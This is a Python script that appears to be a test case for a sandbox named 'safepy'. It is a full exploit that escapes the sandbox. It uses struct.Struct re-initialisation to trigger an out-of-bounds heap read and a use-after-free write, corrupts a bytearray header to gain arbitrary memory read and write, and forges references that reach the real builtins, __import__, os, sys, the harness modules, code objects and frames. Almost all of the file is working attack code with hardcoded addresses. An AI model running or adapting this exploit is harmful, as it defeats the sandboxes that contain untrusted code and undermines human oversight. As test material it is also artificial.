# technique: struct.Struct.__init__ re-init (allowed dunder) -> iter_unpack OOB heap read + pack_into UAF of s_codes (re-init twice inside __index__) = relative heap write; corrupt a bytearray header -> arbitrary R/W; object.__repr__ leaks addresses; plant print's m_self in a list slot -> real builtins module, its dict, real __import__, os/sys/gc/harness modules, a code object and a frame
# expect: any
import struct
BA_TYPE = 0x968f20   # &PyByteArray_Type in the non-PIE safepy-worker (nm)
def rel_read(buf, n):
    s = struct.Struct("B")
    it = s.iter_unpack(buf)
    s.__init__("%ds" % n)          # s_size grows, iterator reads n bytes past the buffer
    return next(it)[0]
def rel_write(ba, off, val):
    s = struct.Struct("<BQ")
    class Ev:
        def __index__(self):
            s.__init__("<BQ")                   # frees the codes array being iterated
            s.__init__("<B%dxQ" % (off - 1))    # reallocates it with a far offset
            return 0
    s.pack_into(ba, 0, Ev(), val)
V = [bytearray(b"V" * 55) for i in range(2000)]
A = V[1000]
data = rel_read(A, 16384)
w = struct.unpack("<%dQ" % (len(data) // 8), data)
hits = [k for k in range(len(w) - 7) if w[k+1] == BA_TYPE and w[k+2] == 55 and w[k+3] == 56 and w[k+4] == w[k+5] and w[k+6] == 0]
o = hits[0] * 8
rel_write(A, o + 40, 0)          # victim.ob_start = 0
rel_write(A, o + 16, 1 << 60)    # victim.ob_size = huge
W = [x for x in V if len(x) != 55][0]
def r64(a):
    return int.from_bytes(W[a:a+8], "little")
def w64(a, v):
    W[a:a+8] = v.to_bytes(8, "little")
orepr = getattr(object, "__repr__")
def addr(o):
    return int(orepr(o).split(" at ")[1][:-1], 16)
def mat(a):
    L = [None]
    items = r64(addr(L) + 24)
    w64(a, r64(a) + 1)
    w64(items, a)
    return L[0]
bm = mat(r64(addr(print) + 24))            # PyCFunctionObject.m_self of print
print("real builtins module:", bm, type(bm))
bdict = mat(r64(addr(bm) + 16))           # PyModuleObject.md_dict
print("real __import__:", bdict["__import__"], "real open:", bdict["open"], "real eval:", bdict["eval"])
imp = bdict["__import__"]
os = imp("os")
sys = imp("sys")
print("os:", os, "pid", os.getpid(), "environ keys:", list(os.environ)[:5])
print("sys:", sys, "gc:", sys.modules["gc"], "marshal:", sys.modules["marshal"])
print("harness:", sys.modules["_safepy_harness"], sys.modules["_safepy_wrappers"], sys.modules["_safepy"])
import json
code = mat(r64(addr(json.dumps) + 48))    # PyFunctionObject.func_code
print("code object:", code)
jg = mat(r64(addr(json.dumps) + 16))      # func_globals
print("json.dumps globals keys:", sorted(jg)[:6], "has real __builtins__:", jg["__builtins__"] is bdict)
tdict = mat(r64(0x9819a0 + 0x108))        # PyType_Type.tp_dict
subs = tdict["__subclasses__"](object)
print("object.__subclasses__():", len(subs), subs[:3])
tb = None
try:
    1 / 0
except ZeroDivisionError:
    tb = sys.exc_info()[2]
fr = mat(r64(addr(tb) + 24))              # PyTracebackObject.tb_frame
print("frame object:", fr)
"escaped"
